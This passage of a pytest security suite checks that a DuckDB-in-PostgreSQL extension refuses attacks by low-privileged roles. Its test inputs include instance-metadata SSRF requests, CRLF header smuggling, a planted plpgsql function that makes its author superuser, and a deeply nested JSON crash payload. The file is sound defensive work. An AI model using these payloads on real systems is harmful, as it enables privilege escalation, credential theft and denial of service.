"""The attack suite, part two: a role with nothing but EXECUTE on duckdb.query
and a DuckDB prompt, against what its engine can reach and do.

- reach: no request to a host:port its secrets and the administrator did not
  name, however the URL is built (counted at a loopback server);
- the server's own identity: no engine uses or shows the postmaster's AWS keys;
- crashes: no SQL reaches the Python client's internal scans (every function
  DuckDB lists is called with NULL and odd arguments);
- other roles' results: nothing one role's engine work leaves behind is
  readable by another;
- secret values: no request logging, no listing DuckDB shows in clear;
- the statement check: on DuckDB's tokens (byte offsets), nested statements
  included.
"""

import os
import shutil
import socket
import subprocess

import psycopg
import pytest

import localenv
from conftest import (
    READ,
    assert_clean_error,
    fresh_database,
    q,
    refused,
    s3_mapping_sql,
    s3_overrides,
    s3_server_sql,
    secret_lines,
)
from conftest import WORLD_CANARY as CANARY
from duckdb_secrets import egress
from test_engine_process import _alive, _children, _cmdline

# --- 1. reach ---------------------------------------------------------------------

def test_no_request_to_a_host_nobody_named(db, world, counter):
    """One case end to end; every way to build the URL: tests/test_refusals.py."""
    conn = db.connect(world["bob"])
    with pytest.raises(psycopg.Error) as e:
        q(conn, f"SELECT * FROM read_text('s3://latest/meta-data/iam?{s3_overrides(counter.port)}')")
    assert_clean_error(e.value, CANARY)
    assert counter.hits == []
    assert e.value.sqlstate == "42501", str(e.value)
    assert f"127.0.0.1:{counter.port}" in e.value.diag.message_primary


def test_a_secrets_signed_request_never_reaches_another_host(db, world, counter, s3):
    """alice may use team_s3: her read of its bucket, pointed elsewhere by the
    URL, is refused before anything (signed with her key) leaves."""
    alice = db.connect(world["alice"])
    assert alice.execute(READ).fetchone() == (10,)            # the secret's own endpoint: allowed
    with pytest.raises(psycopg.Error) as e:
        q(alice, f"SELECT * FROM read_text('s3://bucket/data/numbers.parquet?{s3_overrides(counter.port)}')")
    assert e.value.sqlstate == "42501"
    assert_clean_error(e.value, CANARY, s3.secret)
    assert counter.hits == []


def test_redirects_are_checked_too(db, world, counter):
    """An http secret opens its scope; a redirect from there to another port is refused."""
    door = localenv.HTTPCounter(redirect_to=f"http://127.0.0.1:{counter.port}")
    try:
        db.conn.execute(f"CREATE SERVER web TYPE 'http' FOREIGN DATA WRAPPER duckdb "
                        f"OPTIONS (scope 'http://127.0.0.1:{door.port}/open/')")
        db.conn.execute(f'GRANT USAGE ON FOREIGN SERVER web TO "{world["bob"]}"')
        bob = db.connect(world["bob"])
        with pytest.raises(psycopg.Error) as e:
            q(bob, f"SELECT * FROM read_text('http://127.0.0.1:{door.port}/open/x')")
        assert e.value.sqlstate == "42501", str(e.value)
        assert door.hits and counter.hits == []
    finally:
        door.close()


def test_hugging_face_and_azure_without_a_secret_are_refused(db, world):
    bob = db.connect(world["bob"])
    e = refused(bob, "SELECT * FROM read_text('hf://datasets/x/y/z.csv')", {"42501", "58030", "0A000", "22023"})
    assert "amazonaws" not in str(e)
    refused(bob, "SELECT * FROM read_text('az://container/x.csv')", {"42501", "0A000", "58030", "22023", "42P01"})
    refused(bob, "SELECT * FROM read_text('abfss://c@127.0.0.1:9/x')", {"42501", "0A000", "58030", "22023", "42P01"})


def test_azure_urls_cannot_name_another_host(db, world, counter):
    """The azure extension ignores DuckDB's http_proxy and lets a URL name any
    host: its secrets get the egress proxy too, and a URL's host is checked.
    One way to name a host here (each refusal waits out the extension's own
    retries, ~6 s); every way: tests/test_refusals.py."""
    blob = localenv.HTTPCounter()
    try:
        key = "a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U="
        db.conn.execute("CREATE SERVER blob TYPE 'azure' FOREIGN DATA WRAPPER duckdb OPTIONS (scope 'az://c/')")
        db.conn.execute(f"CREATE USER MAPPING FOR PUBLIC SERVER blob OPTIONS (connection_string "
                        f"'DefaultEndpointsProtocol=http;AccountName=acct;AccountKey={key};"
                        f"BlobEndpoint=http://127.0.0.1:{blob.port}/acct;')")
        db.conn.execute(f'GRANT USAGE ON FOREIGN SERVER blob TO "{world["bob"]}"')
        bob = db.connect(world["bob"])
        with pytest.raises(psycopg.Error):
            q(bob, "SELECT * FROM read_text('az://c/x.csv')")
        assert blob.hits, "the secret's own endpoint is reachable"
        with pytest.raises(psycopg.Error) as e:
            q(bob, f"SELECT * FROM read_text('az://127.0.0.1:{counter.port}/c/x')")
        assert_clean_error(e.value, CANARY)
        assert counter.hits == []
    finally:
        blob.close()


def test_the_proxy_never_contacts_link_local_addresses():
    """Even where the policy names it, an instance-metadata address is refused."""
    proxy = egress.Proxy(egress.Policy([("169.254.169.254", 80), ("127.0.0.1", 9)]))
    try:
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
            s.sendall(b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
            assert s.recv(100).startswith(b"HTTP/1.1 403")
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
            s.sendall(b"CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n")
            assert s.recv(100).startswith(b"HTTP/1.1 403")
        import time
        refusals, deadline = [], time.monotonic() + 10      # reported on the proxy's output, soon after
        while not refusals and time.monotonic() < deadline:
            time.sleep(0.01)
            refusals = proxy.refused()
        assert refusals == ["169.254.169.254:80"]
    finally:
        proxy.close()
    assert egress.never_contacted("169.254.169.254") and egress.never_contacted("::ffff:169.254.169.254")
    assert egress.never_contacted("fd00:ec2::254") and not egress.never_contacted("127.0.0.1")


def test_the_proxy_ends_with_its_engine(db, world):
    """One proxy process per non-superuser engine (beside the engine's own
    process), children of the backend; gone after recycle and after the backend exits."""
    bob = db.connect(world["bob"])
    bob.execute("SELECT count(*) FROM duckdb.secrets()")
    pid = bob.execute("SELECT pg_backend_pid()").fetchone()[0]
    children = _children(pid)
    assert len(children) == 2 and len([c for c in children if "duckdb engine" in _cmdline(c)]) == 1
    bob.execute("SELECT duckdb.recycle_ddb()")
    assert not any(_alive(c) for c in children)
    bob.execute("SELECT count(*) FROM duckdb.secrets()")
    children = _children(pid)
    bob.close()
    import time
    for _ in range(50):
        if not any(_alive(c) for c in children):
            break
        time.sleep(0.1)
    assert not any(_alive(c) for c in children)


# --- 2. the server's own identity ------------------------------------------------

@pytest.fixture(scope="module")
def identity_world(s3):
    """A cluster whose postmaster has the S3 user's keys in its environment and
    in its home's ~/.aws/credentials; secret-less S3 reads go to that S3."""
    base = localenv.scratch_dir("duckdb_secrets_identity.")
    home = os.path.join(base, "home")
    os.makedirs(os.path.join(home, ".aws"))
    with open(os.path.join(home, ".aws", "credentials"), "w") as f:
        f.write(f"[default]\naws_access_key_id = {s3.key_id}\naws_secret_access_key = {s3.secret}\n")
    for path in (home, os.path.join(home, ".aws")):
        os.chmod(path, 0o755)
    os.chmod(os.path.join(home, ".aws", "credentials"), 0o644)
    cluster = localenv.PgCluster(
        os.path.join(base, "pg"),
        settings={"duckdb.engine_settings": f"s3_endpoint={s3.endpoint}; s3_use_ssl=false; s3_url_style=path; "
                                            f"s3_region={s3.region}"},
        env={"AWS_ACCESS_KEY_ID": s3.key_id, "AWS_SECRET_ACCESS_KEY": s3.secret, "HOME": home,
             "AWS_EC2_METADATA_DISABLED": "true"}).start()
    conn = fresh_database(cluster, "identity")
    yield cluster, conn
    conn.close()
    cluster.stop()
    log = cluster.read_log()
    shutil.rmtree(base, ignore_errors=True)
    assert not secret_lines(log, [s3.secret])
    assert "terminated by signal" not in log


@pytest.mark.cluster
def test_no_engine_uses_the_servers_own_keys(identity_world, s3):
    cluster, conn = identity_world
    role = f"nobody_{os.getpid()}"
    conn.execute(f"DROP ROLE IF EXISTS {role}")
    conn.execute(f"CREATE ROLE {role} LOGIN")
    conn.execute(f"GRANT EXECUTE ON FUNCTION duckdb.query(text) TO {role}")
    read = "SELECT count(*) FROM read_parquet('s3://bucket/data/numbers.parquet')"
    listing = ("SELECT count(*) FROM duckdb_settings() WHERE value LIKE '%{k}%' OR value LIKE '%{s}%'"
               .format(k=s3.key_id, s=s3.secret))
    own_keys = ("SELECT current_setting('s3_access_key_id') || current_setting('s3_secret_access_key') "
                "|| current_setting('s3_session_token')")
    with psycopg.connect(cluster.dsn("identity", role), autocommit=True) as nobody:
        for c in (conn, nobody):          # superuser and not: anonymous, so S3 refuses
            with pytest.raises(psycopg.Error) as e:
                q(c, read, "n bigint")
            assert_clean_error(e.value, s3.secret)
            assert "403" in str(e.value) or "Forbidden" in str(e.value) or "Access" in str(e.value), str(e.value)
        assert q(conn, listing, "n bigint") == [(0,)]
        refused(nobody, own_keys)          # credential settings are superusers' (allowlist.SETTINGS)
        assert q(conn, "SELECT current_setting('s3_secret_access_key')") == [("",)]
        refused(nobody, "SELECT * FROM load_aws_credentials()")
    # An administrator's credential_chain server is the one way to the server's identity.
    conn.execute(s3_server_sql("chain_s3", s3, provider="credential_chain", chain="env"))
    assert q(conn, read, "n bigint") == [(10,)]


# --- 3. crashes -----------------------------------------------------------------

def test_python_client_scans_are_refused_for_everyone(db, world):
    """One case end to end; the list: tests/test_refusals.py."""
    bob = db.connect(world["bob"])
    for conn in (db.conn, bob):
        refused(conn, "SELECT * FROM pandas_scan(NULL)")
    assert q(db.conn, "SELECT * FROM query('SELECT 42::VARCHAR')") == [("42",)]
    assert q(bob, "SELECT * FROM query($$SELECT 'ok'$$)") == [("ok",)]


def test_no_python_object_of_the_backend_is_reachable(db, world):
    """The Python client would scan variables of the calling frame by name."""
    for conn in (db.conn, db.connect(world["bob"])):
        for name in ("sess", "duckdb", "engine", "sql", "statements", "_SCALAR", "GD", "plpy"):
            e = refused(conn, f"SELECT * FROM {name}", "42P01")
            assert "Python Object" not in str(e) and ".py" not in str(e)


@pytest.mark.fuzz
def test_every_function_with_null_and_odd_arguments_never_crashes(db, cluster):
    """Every function DuckDB lists, called with NULL and odd arguments through
    the engine by a superuser; the postmaster never restarts a backend."""
    pid = cluster.pid
    names = [r[0] for r in db.conn.execute(
        "SELECT * FROM duckdb.query($$ SELECT DISTINCT function_name || '|' || function_type || '|' || "
        "coalesce(len(parameters), 0) FROM duckdb_functions() WHERE function_type IN "
        "('table', 'table_macro', 'scalar', 'macro', 'aggregate') ORDER BY 1 $$) AS t(f text)")]
    assert len(names) > 500
    args = ["NULL", "0", "-1", "''", "'x'", "[]"]
    calls = 0
    for entry in names:
        name, kind, arity = entry.rsplit("|", 2)
        if not name.replace("_", "").isalnum():
            continue        # operators
        for n in sorted({0, 1, 2, int(arity)}):
            for a in (args if n else [None]):
                text = (f'SELECT * FROM "{name}"({", ".join([a] * n)}) LIMIT 1' if kind.startswith("table")
                        else f'SELECT "{name}"({", ".join([a] * n)})')
                calls += 1
                try:
                    db.conn.execute("SELECT duckdb.raw_query(%s)", (text,))
                except psycopg.Error:
                    if db.conn.broken:
                        pytest.fail(f"the backend died running {text}")
    assert calls > 3000
    assert cluster.pid == pid
    assert db.conn.execute("SELECT 1").fetchone() == (1,)


# --- 4. other roles' results -----------------------------------------------------

def _leave_a_result(conn, text):
    with pytest.raises(psycopg.Error) as e:
        conn.execute(f"SELECT * FROM duckdb.query($${text}$$) AS t(a text, b text, c text)")
    assert e.value.sqlstate == "42804"      # wrong column list: the result was left behind


def _steal(conn):
    return conn.execute("SELECT * FROM duckdb._query_chunks()").fetchall()


def test_results_are_never_read_by_another_role(db, world):
    alice, bob = world["alice"], world["bob"]
    admin = db.role("admin")
    db.conn.execute(f'GRANT "{alice}", "{bob}" TO "{admin}"')
    conn = db.connect(admin)
    conn.execute(f'SET ROLE "{alice}"')
    _leave_a_result(conn, "SELECT range AS id, range * 7 AS v FROM range(1000)")
    conn.execute(f'SET ROLE "{bob}"')
    assert _steal(conn) == []
    conn.execute(f'SET ROLE "{alice}"')
    assert _steal(conn) == []       # a later statement: gone, even for alice


def test_results_do_not_survive_set_session_authorization(db, world):
    conn = db.connect()
    _leave_a_result(conn, "SELECT 4242 AS id, 1 AS v")
    conn.execute(f'SET SESSION AUTHORIZATION "{world["bob"]}"')
    assert _steal(conn) == []
    conn.execute("RESET SESSION AUTHORIZATION")


def test_results_do_not_cross_a_security_definer_boundary(db, world):
    alice, bob = world["alice"], world["bob"]
    db.conn.execute(f'GRANT CREATE ON SCHEMA public TO "{bob}"')
    b = db.connect(bob)
    b.execute("CREATE FUNCTION public.peek() RETURNS bigint LANGUAGE sql SECURITY DEFINER "
              "SET search_path = pg_catalog AS "
              "$$ SELECT count(*) FROM duckdb._query_chunks() $$")
    b.execute(f'GRANT EXECUTE ON FUNCTION public.peek() TO "{alice}"')
    a = db.connect(alice)
    _leave_a_result(a, "SELECT range AS id, range AS v FROM range(10)")
    assert a.execute("SELECT public.peek()").fetchone() == (0,)


# --- 5. secret values --------------------------------------------------------------

def test_no_way_to_secret_values(db, world):
    """One case end to end; the list: tests/test_refusals.py."""
    db.conn.execute("CREATE SERVER proxied TYPE 's3' FOREIGN DATA WRAPPER duckdb "
                    "OPTIONS (scope 's3://proxied', http_proxy '127.0.0.1:9', http_proxy_username 'u')")
    db.conn.execute(f"CREATE USER MAPPING FOR PUBLIC SERVER proxied OPTIONS (http_proxy_password '{CANARY}')")
    db.conn.execute(f'GRANT USAGE ON FOREIGN SERVER proxied TO "{world["carol"]}"')
    carol = db.connect(world["carol"])
    e = refused(carol, "SELECT substr(secret_string, 1, 400) FROM duckdb_secrets()")
    assert "function" in e.diag.message_primary


@pytest.mark.parametrize("who", ["bob", "files"])
def test_the_engines_settings_show_no_path_of_the_server(db, world, cluster, who):
    """Every engine spills under the data directory, and DuckDB names its spill
    directory in temp_directory and allowed_directories: a non-superuser reads
    neither (red team: duckdb_settings() showed them; one case here, every way
    to read them in tests/test_refusals.py), and a message or result cell that
    holds the data directory's path has it masked."""
    if who == "files":
        db.conn.execute(f'GRANT pg_read_server_files, pg_write_server_files TO "{world["bob"]}"')
    bob = db.connect(world["bob"])
    refused(bob, "SELECT string_agg(name || '=' || value, ';') FROM duckdb_settings()")
    assert q(bob, "SELECT current_setting('threads')::VARCHAR") == [("1",)]
    assert q(bob, "CREATE TABLE t AS SELECT 'x' AS v; SELECT v FROM query_table('t')") == [("x",)]
    assert q(bob, "SELECT histogram(v)::VARCHAR FROM t") == [("{x=1}",)]      # the aggregate is fine
    home = os.path.expanduser("~postgres")
    try:
        shown = str(q(bob, "SELECT string_agg(coalesce(install_path, ''), ',') FROM duckdb_extensions()"))
    except psycopg.Error as e:
        shown = str(e)
    install = os.path.join(subprocess.run(["pg_config", "--pkglibdir"], capture_output=True, text=True,
                                          check=True).stdout.strip(), "duckdb_secrets")
    assert home not in shown and cluster.data not in shown and install not in shown
    assert q(bob, f"SELECT 'in {cluster.data}/base'") == [("in ********/base",)]
    with pytest.raises(psycopg.Error) as e:
        q(bob, f"SELECT * FROM read_text('{cluster.data}/PG_VERSION/x')")
    assert cluster.data not in str(e.value)


@pytest.fixture
def usage_only(db, s3):
    """A superuser's S3 server without an endpoint (AWS's hosts) and one with
    the local S3 endpoint; carol has USAGE on both and may write her own
    user mappings, as PostgreSQL lets any role with USAGE."""
    carol = db.role("carol")
    db.conn.execute("CREATE SERVER noend TYPE 's3' FOREIGN DATA WRAPPER duckdb OPTIONS (scope 's3://noend', "
                    "region 'us-east-1')")
    db.conn.execute(s3_server_sql("withend", s3, scope="s3://bucket"))
    db.conn.execute("CREATE USER MAPPING FOR PUBLIC SERVER withend OPTIONS (key_id 'PUBLICKEY', secret "
                    f"'{CANARY}')")
    db.conn.execute(f'GRANT USAGE ON FOREIGN SERVER noend, withend TO "{carol}"')
    db.conn.execute(f'GRANT EXECUTE ON FUNCTION duckdb.query(text) TO "{carol}"')
    return carol, db.connect(carol)


def test_a_role_cannot_name_a_proxy_in_its_own_user_mapping(db, usage_only, counter):
    """Red team: CREATE USER MAPPING FOR itself ... (http_proxy ...) sent every
    request of its engine to a proxy of its choosing."""
    carol, conn = usage_only
    with pytest.raises(psycopg.Error) as e:
        conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER withend OPTIONS (key_id \'k\', secret \'s\', '
                     f"http_proxy '127.0.0.1:{counter.port}')")
    assert e.value.sqlstate == "HV00D" and "http_proxy" in e.value.diag.message_primary
    assert "on the server" in e.value.diag.message_hint
    # One written behind the extension's back (a catalog edit) is skipped, with why.
    conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER withend OPTIONS (key_id \'k\', secret \'s\')')
    db.conn.execute(f"UPDATE pg_user_mapping SET umoptions = umoptions || 'http_proxy=127.0.0.1:{counter.port}'::text "
                    f"WHERE umuser = '\"{carol}\"'::regrole")
    db.conn.execute("SELECT duckdb._bump()")
    for url in ("s3://bucket/x.csv", "s3://bucket/x.csv?s3_endpoint=10.1.2.3:8080"):
        with pytest.raises(psycopg.Error):
            q(conn, f"SELECT count(*)::VARCHAR FROM read_csv('{url}')")
    assert counter.hits == []
    assert [r[0] for r in conn.execute("SELECT storage FROM duckdb.secrets() WHERE name = 'withend'")] == ["skipped"]


def test_no_control_characters_in_option_values(db, usage_only):
    """Red team 2: a CR/LF in extra_http_headers (in the role's own mapping)
    put a second request on the wire to the S3 server."""
    carol, conn = usage_only
    for options in ("extra_http_headers E'X-A=b\\r\\n\\r\\nGET http://127.0.0.1:9/smuggle HTTP/1.1\\r\\nX-B: c'",
                    "extra_http_headers E'X-A\\nInjected=b'", "bearer_token E'abc\\r\\nX-Evil: 1'"):
        with pytest.raises(psycopg.Error) as e:
            conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER withend OPTIONS (key_id \'k\', secret \'s\', '
                         f"{options})")
        assert e.value.sqlstate in ("HV024", "HV00D"), (e.value.sqlstate, str(e.value))
        assert "smuggle" not in str(e.value) and "abc" not in str(e.value)
    conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER withend OPTIONS (key_id \'k\', secret \'s\')')
    with pytest.raises(psycopg.Error) as e:
        conn.execute(f'ALTER USER MAPPING FOR "{carol}" SERVER withend OPTIONS '
                     "(ADD extra_http_headers E'X-A=b\\r\\nX-B=c')")
    assert e.value.sqlstate == "HV024" and "control characters" in e.value.diag.message_primary


def test_a_role_cannot_name_an_endpoint_in_its_own_user_mapping(db, usage_only, counter):
    """Where requests go is the server's (or a PUBLIC mapping's) to say: an
    endpoint in the role's own mapping opens no host."""
    carol, conn = usage_only
    conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER noend OPTIONS (key_id \'k\', secret \'s\', '
                 f"endpoint '127.0.0.1:{counter.port}')")
    e = refused(conn, "SELECT count(*)::VARCHAR FROM read_csv('s3://noend/x.csv')", {"42501", "HV000"})
    assert counter.hits == [], e
    # The same endpoint from the server's owner (a PUBLIC mapping) does open it.
    conn.execute(f'DROP USER MAPPING FOR "{carol}" SERVER noend')
    db.conn.execute(f"CREATE USER MAPPING FOR PUBLIC SERVER noend OPTIONS (key_id 'k', secret 's', "
                    f"endpoint '127.0.0.1:{counter.port}', use_ssl 'false', url_style 'path')")
    try:
        q(conn, "SELECT count(*)::VARCHAR FROM read_csv('s3://noend/x.csv')")
    except psycopg.Error:
        pass
    assert counter.hits, "an administrator's endpoint is reachable"


def test_a_role_cannot_name_an_azure_endpoint_in_its_own_user_mapping(db, usage_only, counter):
    carol, conn = usage_only
    key = "a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U="
    db.conn.execute("CREATE SERVER myblob TYPE 'azure' FOREIGN DATA WRAPPER duckdb OPTIONS (scope 'az://c/')")
    db.conn.execute(f'GRANT USAGE ON FOREIGN SERVER myblob TO "{carol}"')
    conn.execute(f'CREATE USER MAPPING FOR "{carol}" SERVER myblob OPTIONS (connection_string '
                 f"'DefaultEndpointsProtocol=http;AccountName=acct;AccountKey={key};"
                 f"BlobEndpoint=http://127.0.0.1:{counter.port}/acct;')")
    with pytest.raises(psycopg.Error):
        q(conn, "SELECT * FROM read_text('az://c/x.csv')")
    assert counter.hits == []


def test_result_cells_never_show_the_roles_secret_values(db, world, s3):
    """Red team: the S3 server's own state (moto's /moto-api/) handed the role
    its secret key. Whatever a non-superuser's query reads, the exact values of
    its secrets come out masked (a value it transforms is its own doing)."""
    s3.put("data/leak.txt", f"key={s3.secret};".encode())
    alice = db.connect(world["alice"])
    for text in ("SELECT content FROM read_text('s3://bucket/data/leak.txt')",
                 "SELECT content FROM read_text('s3://bucket/../moto-api/data.json')",
                 "SELECT string_agg(content, '') FROM read_text(['s3://bucket/data/leak.txt', "
                 "'s3://bucket/data/leak.txt'])"):
        try:
            rows = q(alice, text)
        except psycopg.Error as e:
            assert_clean_error(e, s3.secret)
            continue
        assert s3.secret not in str(rows) and "********" in str(rows)
    assert q(alice, "SELECT content FROM read_text('s3://bucket/data/leak.txt')") == [("key=********;",)]
    # A superuser's results are not touched.
    db.conn.execute(s3_mapping_sql("team_s3", s3, "postgres"))
    assert q(db.conn, "SELECT content FROM read_text('s3://bucket/data/leak.txt')") == [(f"key={s3.secret};",)]


# --- 6. the statement check ----------------------------------------------------------

def test_statement_check_bypasses(db, world):
    """One case end to end; the list: tests/test_refusals.py."""
    alice = db.connect(world["alice"])
    refused(alice, "/*éééééé*/ DROP TEMPORARY SECRET team_s3")
    assert alice.execute("SELECT name FROM duckdb.which_secret('s3://bucket/data/numbers.parquet', 's3')"
                         ).fetchall() == [("team_s3",)]


def test_non_ascii_text_is_fine(db, world):
    alice = db.connect(world["alice"])
    assert q(alice, "/*ééé*/ SELECT 'ünïcödé ✓' AS x") == [("ünïcödé ✓",)]
    assert q(alice, "SELECT 'é' AS \"é\"; SELECT 'ok'") == [("ok",)]
    assert q(alice, "ATTACH ':memory:' AS scratch; CREATE TABLE scratch.t AS SELECT 1 AS i; "
                    "SELECT count(*)::VARCHAR FROM scratch.t") == [("1",)]
    assert q(alice, "EXPLAIN SELECT 1", "k text, v text")


# --- 7. what a less privileged role plants (issue: planted relations, server owners) ----

SPY = """
CREATE TABLE {s}.spied (who text, at timestamptz DEFAULT now());
GRANT INSERT, SELECT ON {s}.spied TO PUBLIC;
CREATE FUNCTION {s}.pwn() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO {s}.spied (who) VALUES (current_user);
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    EXECUTE format('ALTER ROLE %I SUPERUSER', {mallory});
  END IF;
  RETURN true;
END $$;
GRANT EXECUTE ON FUNCTION {s}.pwn() TO PUBLIC;
"""
SHAPE = "secret_name varchar PRIMARY KEY, secret_type varchar NOT NULL, serialized_secret bytea NOT NULL"


@pytest.fixture
def mallory(db):
    """A role with CREATE on the database and on schema public, and a spy
    function that records who runs it (and makes her superuser if it can)."""
    name = db.role("mallory")
    db.conn.execute(f'GRANT CREATE ON DATABASE "{db.dbname}" TO "{name}"')
    db.conn.execute(f'GRANT CREATE ON SCHEMA public TO "{name}"')
    conn = db.connect(name)
    conn.execute(f'CREATE SCHEMA "m_{name}"')
    conn.execute(f'GRANT USAGE ON SCHEMA "m_{name}" TO PUBLIC')
    conn.execute(SPY.format(s=f'"m_{name}"', mallory=f"'{name}'"))
    return {"name": name, "conn": conn, "schema": f'"m_{name}"'}


def _spied(db, mallory):
    return db.conn.execute(f"SELECT who FROM {mallory['schema']}.spied").fetchall()


def _is_superuser(db, role):
    return db.conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = %s", (role,)).fetchone()[0]


def test_a_view_planted_in_a_schema_named_after_a_superuser_never_runs(db, mallory):
    victim = db.role("dba", superuser=True)
    m = mallory["conn"]
    m.execute(f'CREATE SCHEMA "{victim}"')
    m.execute(f'CREATE VIEW "{victim}".duckdb_secrets AS SELECT \'x\'::varchar secret_name, \'s3\'::varchar '
              f"secret_type, '\\x00'::bytea serialized_secret FROM (VALUES (1)) v WHERE {mallory['schema']}.pwn()")
    m.execute(f'GRANT USAGE ON SCHEMA "{victim}" TO PUBLIC')
    m.execute(f'GRANT SELECT ON "{victim}".duckdb_secrets TO PUBLIC')
    dba = db.connect(victim)
    dba.execute("SELECT * FROM duckdb.secrets()").fetchall()
    assert q(dba, "SELECT 42::VARCHAR") == [("42",)]
    assert not _is_superuser(db, mallory["name"]) and _spied(db, mallory) == []


def test_a_view_planted_in_public_never_runs(db, mallory):
    victim = db.role("dba", superuser=True)
    m = mallory["conn"]
    m.execute(f"CREATE VIEW public.duckdb_secrets AS SELECT 'x'::varchar secret_name, 's3'::varchar secret_type, "
              f"'\\x00'::bytea serialized_secret FROM (VALUES (1)) v WHERE {mallory['schema']}.pwn()")
    m.execute("GRANT SELECT ON public.duckdb_secrets TO PUBLIC")
    dba = db.connect(victim)
    notices = []
    dba.add_notice_handler(lambda d: notices.append(d.message_primary))
    dba.execute("SELECT * FROM duckdb.secrets()").fetchall()
    assert not _is_superuser(db, mallory["name"]) and _spied(db, mallory) == []
    assert any("ignoring public.duckdb_secrets" in n and "not a table" in n for n in notices), notices


def test_a_planted_tables_policy_and_defaults_never_run(db, world, mallory):
    """A table mallory owns at the named place: its RLS policy would run on
    every read, its defaults on every write, as the victim."""
    m = mallory["conn"]
    m.execute(f"CREATE TABLE public.duckdb_secrets ({SHAPE}, note text DEFAULT ({mallory['schema']}.pwn())::text)")
    m.execute("ALTER TABLE public.duckdb_secrets ENABLE ROW LEVEL SECURITY")
    m.execute(f"CREATE POLICY p ON public.duckdb_secrets USING ({mallory['schema']}.pwn())")
    m.execute("GRANT SELECT, INSERT, UPDATE ON public.duckdb_secrets TO PUBLIC")
    alice = db.connect(world["alice"])              # a non-superuser victim with a secret
    notices = []
    alice.add_notice_handler(lambda d: notices.append(d.message_primary))
    assert [r[0] for r in alice.execute("SELECT name FROM duckdb.secrets()")] == ["team_s3"]
    assert alice.execute(READ).fetchone() == (10,)
    assert any("owned by role" in n and "neither the current role nor a superuser" in n for n in notices)
    for conn in (alice, db.conn):
        with pytest.raises(psycopg.Error) as e:
            conn.execute("SELECT duckdb.store_table_secret('team_s3', include_sensitive => true)")
        assert e.value.sqlstate == "42501" and "owned by role" in e.value.diag.message_primary
    assert _spied(db, mallory) == [] and not _is_superuser(db, mallory["name"])


def test_a_role_cannot_point_the_table_setting_elsewhere(db, world, mallory):
    """Only the configuration files name the table: a SET names nothing."""
    m = mallory["conn"]
    m.execute(f"CREATE TABLE {mallory['schema']}.mine ({SHAPE})")
    m.execute(f"GRANT SELECT ON {mallory['schema']}.mine TO PUBLIC")
    alice = db.connect(world["alice"])
    alice.execute(f"SET duckdb.secret_storage_table = '{mallory['schema']}.mine'")
    assert [r[2] for r in alice.execute("SELECT name, server, origin FROM duckdb.secrets()")] == ["server"]


@pytest.fixture
def lesser_admin(db):
    """A non-superuser with USAGE on the wrapper: may create servers."""
    name = db.role("admin")
    db.conn.execute(f'GRANT USAGE ON FOREIGN DATA WRAPPER duckdb TO "{name}"')
    db.conn.execute(f'GRANT EXECUTE ON FUNCTION duckdb.query(text) TO "{name}"')
    return name, db.connect(name)


def test_a_lesser_owners_server_never_steers_a_superuser(db, lesser_admin, counter):
    name, admin = lesser_admin
    admin.execute(f"CREATE SERVER evil TYPE 's3' FOREIGN DATA WRAPPER duckdb OPTIONS (endpoint "
                  f"'127.0.0.1:{counter.port}', url_style 'path', use_ssl 'false', scope 's3://bars/')")
    admin.execute("CREATE USER MAPPING FOR PUBLIC SERVER evil OPTIONS (key_id 'k', secret 's')")
    assert "evil" not in [r[0] for r in db.conn.execute(
        "SELECT name FROM duckdb.secrets() WHERE storage <> 'skipped'")]
    with pytest.raises(psycopg.Error):
        q(db.conn, "COPY (SELECT 'payroll' AS x) TO 's3://bars/export.csv'")
    assert counter.hits == []
    # The owner itself has the secret, but its endpoint opens nothing.
    assert "evil" in [r[0] for r in admin.execute("SELECT name FROM duckdb.secrets()")]
    e = refused(admin, "SELECT * FROM read_text('s3://bars/x')")
    assert f"127.0.0.1:{counter.port}" in e.diag.message_primary
    assert counter.hits == []


def test_a_lesser_owners_http_server_opens_no_prefix(db, world, lesser_admin, counter):
    name, admin = lesser_admin
    admin.execute(f"CREATE SERVER web TYPE 'http' FOREIGN DATA WRAPPER duckdb "
                  f"OPTIONS (scope 'http://127.0.0.1:{counter.port}/internal/')")
    admin.execute(f'GRANT USAGE ON FOREIGN SERVER web TO "{world["bob"]}"')
    for conn in (admin, db.connect(world["bob"])):
        refused(conn, f"SELECT * FROM read_text('http://127.0.0.1:{counter.port}/internal/x')")
    assert counter.hits == []


def test_an_administrator_may_trust_an_owner_in_the_configuration_files(db, world, lesser_admin, counter):
    from conftest import file_setting
    name, admin = lesser_admin
    admin.execute(f"CREATE SERVER web TYPE 'http' FOREIGN DATA WRAPPER duckdb "
                  f"OPTIONS (scope 'http://127.0.0.1:{counter.port}/internal/')")
    admin.execute(f'GRANT USAGE ON FOREIGN SERVER web TO "{world["bob"]}"')
    with file_setting(db.conn, "duckdb.trusted_server_owners", name):
        bob = db.connect(world["bob"])
        assert q(bob, f"SELECT * FROM read_text('http://127.0.0.1:{counter.port}/internal/x')",
                 "f text, c text, s bigint, m timestamptz") and counter.hits
        assert "web" in [r[0] for r in db.connect().execute("SELECT name FROM duckdb.secrets()")]


# --- 8. found by a red team that saw only README.md and docs/security.md ------------

DEEP = 200000


def test_deeply_nested_json_does_not_crash_the_backend(db, world, s3, cluster):
    """DuckDB recurses on nested JSON without a limit: a 200,000-deep value
    overflowed the backend's own stack (SIGSEGV, every session reset). Calls
    run on a thread with a large stack."""
    postmaster = cluster.pid
    s3.put("deep/deep.json", ("[" * DEEP + "]" * DEEP + "\n").encode())
    alice = db.connect(world["alice"])
    for conn in (alice, db.conn):
        for text in [f"SELECT json_structure(repeat('[', {DEEP}) || repeat(']', {DEEP}))::VARCHAR",
                     f"SELECT json_contains(repeat('[', {DEEP}) || repeat(']', {DEEP}), '1')::VARCHAR",
